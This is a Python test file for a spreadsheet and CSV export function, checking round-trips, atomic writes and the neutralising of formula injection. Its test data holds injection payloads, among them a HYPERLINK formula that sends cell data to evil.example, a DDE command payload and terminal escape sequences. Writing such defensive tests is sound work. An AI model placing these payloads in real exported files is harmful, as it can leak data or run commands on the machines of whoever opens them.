"""Tables as files: the same values, harmless to a spreadsheet, whole or not there."""

from __future__ import annotations

import io
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from csat_analysis import export as export_room
from csat_analysis.errors import ExportError, UnknownChoice
from csat_analysis.export import export, harmless, to_csv_text

ENDINGS = ["csv", "parquet", "xlsx"]
FORMULAS = [
    "=1+1",
    "+49 30 123",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\x07=1+1",
    "\x1f \x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\ufffe=1+1",
    "\uffff\x80=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def frame() -> pd.DataFrame:
    """A table of every kind of column, with a gap in each but the first."""
    return pd.DataFrame({
        "ticket_id": pd.array([1, 2], dtype="Int64"),
        "subject": pd.array(["Zoë; \"quoted\", ☃\nsecond line", None], dtype="string"),
        "share": [0.25, None],
        "is_good": pd.array([True, None], dtype="boolean"),
        "tags": [["vip", "late"], None],
        "week": pd.to_datetime(["2026-11-09", None]),
        "submitted_at": pd.to_datetime(["2026-11-10T10:15:30.125Z", None], format="ISO8601"),
    })  # fmt: skip


def read_back(path: Path) -> pd.DataFrame:
    readers = {".csv": pd.read_csv, ".xlsx": pd.read_excel, ".parquet": pd.read_parquet}
    return readers[path.suffix](path)


def cells(path: Path) -> list[list[object]]:
    """An .xlsx sheet as rows of values; formulas as the text "=…" with the data type f."""
    return [
        [(cell.value, cell.data_type) for cell in row]
        for row in openpyxl.load_workbook(path).active.iter_rows()
    ]


# The same values


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_table_is_read_back_as_it_was(frame, tmp_path, ending):
    path = export(frame, tmp_path / f"table.{ending}")
    back = read_back(path)
    assert path == tmp_path / f"table.{ending}"
    assert back.columns.tolist() == frame.columns.tolist()
    assert back["subject"][0] == frame["subject"][0]
    assert (back["ticket_id"][0], back["share"][0], bool(back["is_good"][0])) == (1, 0.25, True)
    assert back.iloc[1].isna().tolist() == [False, *[True] * 6]
    assert pd.to_datetime(back["submitted_at"], utc=True)[0] == frame["submitted_at"][0]


def test_parquet_keeps_types_and_lists(frame, tmp_path):
    back = pd.read_parquet(export(frame, tmp_path / "table.parquet"))
    assert list(back["tags"][0]) == ["vip", "late"]
    assert back["submitted_at"].tolist()[0] == frame["submitted_at"][0]
    assert back["subject"][0] == frame["subject"][0]


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_lists_are_joined_by_spaces(frame, tmp_path, ending):
    assert read_back(export(frame, tmp_path / f"t.{ending}"))["tags"][0] == "vip late"


def test_csv_has_the_mark_that_excel_needs_and_utc_offsets(frame, tmp_path):
    content = export(frame, tmp_path / "t.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfticket_id,")
    assert b",2026-11-10 10:15:30.125+00:00" in content


def test_xlsx_has_times_as_dates_and_a_heading_that_stays(frame, tmp_path):
    path = export(frame, tmp_path / "t.xlsx")
    assert cells(path)[1][-1] == (pd.Timestamp("2026-11-10T10:15:30.125").to_pydatetime(), "d")
    assert openpyxl.load_workbook(path).active.freeze_panes == "A2"


@pytest.mark.parametrize("ending", ENDINGS)
def test_an_empty_table_keeps_its_headings(frame, tmp_path, ending):
    back = read_back(export(frame[:0], tmp_path / f"t.{ending}"))
    assert back.empty
    assert back.columns.tolist() == frame.columns.tolist()


@pytest.mark.parametrize("ending", ENDINGS)
def test_the_table_itself_is_not_changed(frame, tmp_path, ending):
    before = frame.copy(deep=True)
    export(frame, tmp_path / f"t.{ending}")
    pd.testing.assert_frame_equal(frame, before)


# Harmless


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["fine", "a=b", "5 - 3", "", "'=1", 5, -5, -0.5, None, True])
def test_what_is_no_formula_is_left_alone(value):
    assert harmless(value) is value


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("kind", ["string", "object", "category"])
def test_no_cell_of_a_sheet_is_a_formula_wherever_it_stands(tmp_path, text, kind):
    column = pd.Series(["fine", text, None], dtype=kind)
    table = pd.DataFrame({"words": column, "list": [[text, "x"], [], ["x", text]], "n": [1, 2, 3]})
    path = export(table.rename(columns={"n": text}), tmp_path / "t.xlsx")
    found = [cell for row in cells(path) for cell in row]
    assert "f" not in {kind for _, kind in found}
    assert not any(
        isinstance(value, str) and value.strip("\0\x07\x1f\x80 \t\r\n\ufeff\u200b")[:1] in tuple("=+-@＝")
        for value, _ in found
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_no_field_of_a_csv_is_a_formula(text):
    table = pd.DataFrame({"first": [text, "a"], text: ["b", text], "list": [[text], []]})
    rows = pd.read_csv(
        io.StringIO(to_csv_text(table)), header=None, dtype=str, keep_default_na=False
    ).to_numpy()
    assert {value for value in rows.ravel() if "1" in value and not value.startswith("'")} <= {"1"}
    assert to_csv_text(table).count("'") >= 4


@settings(deadline=None, derandomize=True, max_examples=150)
@given(st.text(st.characters(codec="utf-8"), max_size=12))
def test_any_words_can_be_written_and_none_becomes_a_formula(tmp_path_factory, words):
    path = tmp_path_factory.getbasetemp() / "words.xlsx"
    export(pd.DataFrame({"comment": [words]}), path)
    ((_,), (cell,)) = cells(path)
    assert cell[1] != "f"
    assert not str(cell[0] or "").startswith(("=", "+", "-", "@"))
    assert to_csv_text(pd.DataFrame({"comment": [words]})).startswith("comment\n")


def test_no_line_inside_a_text_begins_a_line_of_the_file():
    table = pd.DataFrame({"comment": ["thanks\r=1+1", "thanks\r\n=1+1"], "tags": [["a\r=1+1"], []]})
    assert "\r" not in to_csv_text(table)
    assert pd.read_csv(io.StringIO(to_csv_text(table)))["comment"].tolist() == ["thanks\n'=1+1"] * 2


def written(words: str, path: Path) -> str:
    """The words as a CSV file has them, behind a first column as most tables have one."""
    return pd.read_csv(export(pd.DataFrame({"n": [1], "words": [words]}), path))["words"][0]


@pytest.mark.parametrize("separator", [";", "\t", "\n", "|", "; ", ";\u200b\x00", ";\n\n\t", '; "', ';""'])
@pytest.mark.parametrize("sign", list("=+-@＝＋－＠"))
def test_where_another_countrys_excel_begins_a_cell_there_is_no_formula_either(tmp_path, separator, sign):
    words = f"thanks{separator}{sign}1+1"
    assert written(words, tmp_path / "t.csv") == f"thanks{separator}'{sign}1+1"
    (_, (_, (in_xlsx, _))) = cells(export(pd.DataFrame({"n": [1], "words": [words]}), tmp_path / "t.xlsx"))
    assert in_xlsx == words.replace("\x00", "")


@pytest.mark.parametrize(
    "words", ["a-b", "x; y", "x;y=1", "a | b - c", "so\n1. = one", '"-" and "+"', "5 - 3;"]
)
def test_ordinary_words_stand_in_a_csv_as_they_were_written(tmp_path, words):
    assert written(words, tmp_path / "t.csv") == words


def test_a_heading_and_a_list_begin_no_cell_within_either():
    text = to_csv_text(pd.DataFrame({"a;=1": ["x"], "tags": [["a;", "=1"]]}))
    assert text == "a;'=1,tags\nx,a; '=1\n"


def test_a_comment_of_blank_lines_takes_no_time():
    table = pd.DataFrame({"comment": ["x" + "\n" * 200_000 + "y"]})
    started = time.monotonic()
    to_csv_text(table)
    assert time.monotonic() - started < 5


def test_no_terminal_is_told_what_to_do():
    table = pd.DataFrame({"comment": ["\x1b]0;owned\x07red \x1b[31m\x9b2J\x00\ttab\nline\x7f"], "n": [1]})
    assert to_csv_text(table) == 'comment,n\n"]0;ownedred [31m2J\ttab\nline",1\n'


def test_numbers_below_zero_stay_numbers(tmp_path):
    table = pd.DataFrame({"change": [-0.25], "count": pd.array([-3], dtype="Int64")})
    assert cells(export(table, tmp_path / "t.xlsx"))[1] == [(-0.25, "n"), (-3, "n")]


def test_characters_that_a_sheet_cannot_hold_are_left_out(tmp_path):
    table = pd.DataFrame({"comment": ["a\x00b\x0bc\x1fd\ufffee", "x" * 40_000]})
    (_, (first,), (second,)) = cells(export(table, tmp_path / "t.xlsx"))
    assert first[0] == "abcde"
    assert second[0] == "x" * 32_767


# Whole or not there


@pytest.mark.parametrize("name", ["table.txt", "table", "table.xls", "table.csv.gz"])
def test_an_unknown_ending_names_the_known_ones(frame, tmp_path, name):
    with pytest.raises(UnknownChoice, match=r"there is: \.csv, \.parquet, \.xlsx"):
        export(frame, tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_an_ending_in_capitals_is_the_same(frame, tmp_path):
    assert export(frame, tmp_path / "T.CSV").read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_folder_is_made(frame, tmp_path):
    assert export(frame, tmp_path / "out" / "week 46" / "t.csv").exists()


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_place_that_cannot_be_written_is_named(frame, tmp_path, ending):
    (tmp_path / "file").write_text("no folder")
    (tmp_path / f"folder.{ending}").mkdir()
    for path in (tmp_path / "file" / f"t.{ending}", tmp_path / f"folder.{ending}"):
        with pytest.raises(ExportError, match=r"cannot write .* choose another --output"):
            export(frame, path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", f"folder.{ending}"]


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(export_room, "XLSX_ROWS", 2)
    with pytest.raises(ExportError, match=r"3 rows do not fit .* use \.csv or \.parquet"):
        export(pd.DataFrame({"a": [1, 2, 3]}), tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("ending", ENDINGS)
@pytest.mark.parametrize("failure", [OSError(28, "No space left on device"), KeyboardInterrupt()])
def test_a_write_that_breaks_off_leaves_the_old_file_and_nothing_else(
    frame, tmp_path, monkeypatch, ending, failure
):
    path = tmp_path / f"t.{ending}"
    path.write_bytes(b"old")

    def half(frame: pd.DataFrame, draft: Path) -> None:
        draft.write_bytes(b"half")
        raise failure

    monkeypatch.setitem(export_room._WRITERS, f".{ending}", half)
    with pytest.raises((ExportError, KeyboardInterrupt)):
        export(frame, path)
    assert [path.name for path in tmp_path.iterdir()] == [f"t.{ending}"]
    assert path.read_bytes() == b"old"
